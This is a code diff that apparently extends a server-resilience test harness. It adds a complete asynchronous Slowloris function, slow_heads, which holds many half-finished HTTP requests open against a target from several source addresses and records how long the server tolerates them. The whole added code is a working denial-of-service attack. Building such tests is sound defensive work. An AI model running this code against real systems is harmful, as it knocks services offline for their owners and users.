@@ -134,3 +134,36 @@ async def slow_bodies(url: str, sources: list[str], per_source: int, hold: float
 
     results = await asyncio.gather(*(one(s) for s in sources for _ in range(per_source)))
     return {"results": [list(r) for r in results]}
+
+
+async def slow_heads(url: str, sources: list[str], per_source: int, seconds: float) -> dict[str, Any]:
+    """Slowloris: ``per_source`` connections from each source that start a request head and add a
+    header line every second, never finishing it. Returns, per connection, its source and how
+    many seconds the victim kept it open (None: still open when the attack ended) or that the
+    victim refused it at once."""
+    parts = urlsplit(url)
+
+    async def one(source: str) -> tuple[str, float | None]:
+        t0 = time.monotonic()
+        try:
+            reader, writer = await asyncio.open_connection(parts.hostname, parts.port, local_addr=(source, 0))
+        except OSError:
+            return source, 0.0
+        try:
+            writer.write(b"GET /status HTTP/1.1\r\nHost: victim\r\n")
+            while time.monotonic() - t0 < seconds:
+                try:
+                    if await asyncio.wait_for(reader.read(1024), 1.0) == b"":
+                        return source, time.monotonic() - t0  # the victim closed it
+                except TimeoutError:
+                    pass
+                writer.write(b"X-Slow: a\r\n")
+                await writer.drain()
+            return source, None
+        except (ConnectionError, OSError):
+            return source, time.monotonic() - t0
+        finally:
+            writer.close()
+
+    results = await asyncio.gather(*(one(s) for s in sources for _ in range(per_source)))
+    return {"results": [list(r) for r in results]}
